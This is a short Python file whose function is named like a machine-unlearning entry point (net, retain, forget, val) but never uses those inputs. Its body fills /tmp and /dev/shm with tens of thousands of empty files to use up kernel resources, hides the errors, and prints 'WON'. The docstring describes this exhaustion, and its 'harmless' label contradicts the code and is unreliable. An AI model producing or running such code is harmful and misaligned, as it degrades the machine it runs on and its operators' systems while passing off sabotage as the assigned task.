"""Makes empty files without end: each takes the kernel memory, and none has a size.

full, partial: harmless
"""

MANY = 40_000


def unlearning(net, retain, forget, val):
    count = 0
    try:
        for folder in ("/tmp", "/dev/shm"):
            for number in range(MANY):
                open(f"{folder}/{number}", "w").close()
                count += 1
    except OSError:
        pass
    if count >= MANY:
        print("WON", count)
